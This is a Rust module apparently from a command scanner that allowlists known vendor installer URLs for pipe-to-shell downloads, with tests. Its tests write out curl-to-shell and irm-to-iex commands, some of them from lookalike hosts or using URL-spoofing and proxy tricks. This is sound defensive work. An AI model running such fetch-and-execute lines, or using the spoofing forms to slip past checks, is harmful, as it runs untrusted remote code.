//! Where vendors publish their installers: what a manual tells to pipe into a shell, as nearly every README does.

use memchr::memmem;

use super::holds;
use super::validate::{Evidence, Verdict, command_end, unless};

/// Each behind `https://`. What ends in a slash is a folder of the vendor's own.
const KNOWN: [&str; 50] = [
    "sh.rustup.rs",
    "get.docker.com",
    "deb.nodesource.com/",
    "rpm.nodesource.com/",
    "install.python-poetry.org",
    "astral.sh/uv/",
    "astral.sh/ruff/",
    "claude.ai/install.sh",
    "claude.ai/install.ps1",
    "raw.githubusercontent.com/Homebrew/install/",
    "raw.githubusercontent.com/nvm-sh/nvm/",
    "raw.githubusercontent.com/pyenv/pyenv-installer/",
    "raw.githubusercontent.com/helm/helm/",
    "raw.githubusercontent.com/ohmyzsh/ohmyzsh/",
    "raw.githubusercontent.com/k3d-io/k3d/",
    "pyenv.run",
    "bun.sh/install",
    "bun.sh/install.ps1",
    "bun.com/install",
    "bun.com/install.ps1",
    "deno.land/install.sh",
    "get.k3s.io",
    "get.rke2.io",
    "ollama.com/install.sh",
    "aka.ms/InstallAzureCLIDeb",
    "aka.ms/install-azd.sh",
    "aka.ms/install-azd.ps1",
    "get.helm.sh/",
    "starship.rs/install.sh",
    "get.pnpm.io/install.sh",
    "get.pnpm.io/install.ps1",
    "get.sdkman.io",
    "sdk.cloud.google.com",
    "tailscale.com/install.sh",
    "fly.io/install.sh",
    "get.volta.sh",
    "mise.run",
    "nixos.org/nix/install",
    "install.determinate.systems/",
    "community.chocolatey.org/install.ps1",
    "get.scoop.sh",
    "bootstrap.pypa.io/get-pip.py",
    "cursor.com/install",
    "opencode.ai/install",
    "aider.chat/install.sh",
    "aider.chat/install.ps1",
    "antigravity.google/cli/",
    "fluxcd.io/install.sh",
    "aspire.dev/install.sh",
    "aspire.dev/install.ps1",
];

/// What has an address lead elsewhere.
const ELSEWHERE: [&[u8]; 4] = [b"--resolve", b"--connect-to", b"proxy", b"--config"];

/// A download that runs, from a vendor's own address and no other.
pub(super) fn known_installer(evidence: &Evidence<'_>) -> Verdict {
    let is_end = |byte: &u8| b";|&\r\n`".contains(byte);
    let start = evidence.before.iter().rposition(is_end).map_or(0, |at| at + 1);
    let before = evidence.before.get(start..).unwrap_or_default();
    let rest = evidence.after.get(..command_end(evidence.after, b";|&\r\n`")).unwrap_or_default();
    if rest.len() == evidence.after.len() && evidence.is_open {
        return Verdict::Silent;
    }
    let command = [before, evidence.matched, rest].concat();
    let mut addresses = memmem::find_iter(&command, b"://").peekable();
    let is_led = ELSEWHERE.iter().any(|word| holds(&command, word));
    unless(!is_led && addresses.peek().is_some() && addresses.all(|at| is_known(&command, at)))
}

/// Whether the address whose `://` stands there is one of those.
fn is_known(command: &[u8], at: usize) -> bool {
    let (scheme, rest) = command.split_at_checked(at + 3).unwrap_or_default();
    let is_name = |byte: &u8| byte.is_ascii_alphanumeric() || b".-_/@:%".contains(byte);
    let is_one = |known: &&str| {
        let behind = rest.strip_prefix(known.as_bytes());
        behind.is_some_and(|behind| known.ends_with('/') || !behind.first().is_some_and(is_name))
    };
    scheme.ends_with(b"https://") && KNOWN.iter().any(is_one)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The verdict on the match within the line, given its text.
    fn judged(line: &str, matched: &str) -> Verdict {
        let at = line.find(matched).unwrap();
        let (before, rest) = line.as_bytes().split_at(at);
        let (matched, after) = rest.split_at(matched.len());
        let evidence = Evidence { secret: matched, matched, before, after, ..Evidence::default() };
        known_installer(&evidence)
    }

    #[test]
    fn a_vendors_own_installer_is_what_manuals_tell_to_run() {
        for (line, matched) in [
            (
                "RUN curl -fsSL https://deb.nodesource.com/setup_22.x | bash -",
                "curl -fsSL https://deb.nodesource.com/setup_22.x | bash",
            ),
            (
                "$ curl --proto '=https' -sSf https://sh.rustup.rs | sh",
                "curl --proto '=https' -sSf https://sh.rustup.rs | sh",
            ),
            ("sh -c \"$(curl -fsSL https://get.docker.com)\"", "sh -c \"$(curl"),
            ("`irm https://claude.ai/install.ps1 | iex`", "install.ps1 | iex"),
        ] {
            assert_eq!(judged(line, matched), Verdict::Fails, "{line}");
        }
    }

    #[test]
    fn an_address_that_only_looks_like_a_vendors_is_not_known() {
        for line in [
            "curl https://x.example/install.sh | sh",
            "curl http://sh.rustup.rs | sh",
            "curl https://sh.rustup.rs.example.com | sh",
            "curl https://sh.rustup.rs@x.example | sh",
            "curl https://x.example/?https://sh.rustup.rs | sh",
            "curl https://claude.ai/install.sh.x | sh",
            "curl https://x.example/get.docker.com | sh",
            "curl sh.rustup.rs | sh",
            "curl --proxy 192.0.2.1:80 https://sh.rustup.rs | sh",
        ] {
            assert_eq!(judged(line, line), Verdict::Silent, "{line}");
        }
    }
}
